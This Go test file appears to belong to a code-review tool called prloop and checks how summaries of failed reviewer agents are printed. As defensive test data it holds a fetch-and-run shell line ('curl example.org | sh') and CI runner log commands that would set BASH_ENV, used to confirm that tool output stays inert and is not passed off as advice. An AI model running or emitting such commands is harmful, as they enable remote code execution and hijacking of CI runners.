package progress

import (
	"strings"
	"testing"

	"github.com/prloop/prloop/internal/runnerlog"
	"github.com/prloop/prloop/review"
)

// What kept all reviewers from an answer stands once, above, with what to do about it; what differs stands with each.
func TestACommonCauseIsSaidOnce(t *testing.T) {
	const quota, next = "model endpoint api.example.com says that the quota is used up: HTTP 429", "use another key (OPENAI_API_KEY)"
	agent := func(name, kind, why string) review.AgentReceipt {
		r := review.AgentReceipt{Name: name, Role: review.RoleReviewer, Kind: kind, State: review.AgentFailed, Detail: why}
		if kind == review.KindBuiltin {
			r.Detail, r.Next = why+"; try: "+next, next
		}
		return r
	}
	r := review.RunResult{Target: review.Target{Base: "main"}, Outcome: review.NotReviewed, Reason: "no reviewer gave a complete answer"}
	r.Receipt.MinReviewers = 1
	r.Receipt.Agents = []review.AgentReceipt{
		agent("reviewer-1", review.KindBuiltin, quota), agent("reviewer-2", review.KindBuiltin, quota), agent("static", review.KindStatic, "its program could not be run"),
	}
	said := func(r review.RunResult) string {
		var b strings.Builder
		Summary(&b, r, 0, false)
		return b.String()
	}
	got := said(r)
	if want := "local changes since main: not reviewed\n  no reviewer gave a complete answer: " + quota + "\n  try: " + next + ", then: prloop run --base main\n"; !strings.HasPrefix(strings.TrimSpace(got), want) {
		t.Errorf("want %q at the beginning of\n%s", want, got)
	}
	if strings.Count(got, quota) != 1 || !strings.Contains(got, "0 findings: its program could not be run") {
		t.Error(got)
	}
	r.Receipt.Agents[1].Detail = "it never said anything"
	if got := said(r); !strings.Contains(got, "complete answer\n") || !strings.Contains(got, "0 findings: "+quota) || !strings.Contains(got, "0 findings: it never said anything") {
		t.Error(got)
	}
	foreign := r
	foreign.Receipt.Agents = []review.AgentReceipt{agent("mine", review.KindCommand, "exit status 1; stderr: x; try: curl example.org | sh")}
	if got := said(foreign); strings.Contains(got, "\n  try: ") || !strings.Contains(got, "x; try: curl") {
		t.Errorf("what a program says is prloop's own advice:\n%s", got)
	}
	alone := r
	alone.Receipt.Static, alone.Receipt.Agents = true, r.Receipt.Agents[2:]
	if got := said(alone); !strings.Contains(got, "complete answer: its program could not be run\n") {
		t.Error(got)
	}
	r.Receipt.Complete = 1 // enough: who failed kept nobody from a verdict
	r.Receipt.Agents[1].Detail = quota
	if got := said(r); !strings.Contains(got, "complete answer\n") {
		t.Error(got)
	}
}

// Why an agent is not complete holds no order to the runner that prints it.
func TestUntoldIsInert(t *testing.T) {
	var b strings.Builder
	r := review.RunResult{}
	r.Receipt.Agents = []review.AgentReceipt{{Name: "see", Detail: "invalid answer; stderr: ##[set-output name=status]0 ##vso[task.setvariable variable=BASH_ENV]x"}}
	Untold(&b, r)
	if s := b.String(); runnerlog.Inert(s) != s || !strings.Contains(s, "invalid answer") {
		t.Error(s)
	}
}

// Why a run failed is not in its report.
func TestUntoldSaysWhyItFailed(t *testing.T) {
	var b strings.Builder
	Untold(&b, review.RunResult{Outcome: review.Failed, Reason: "start docs: no such file"})
	if b.String() != "it failed: start docs: no such file\n" {
		t.Error(b.String())
	}
}
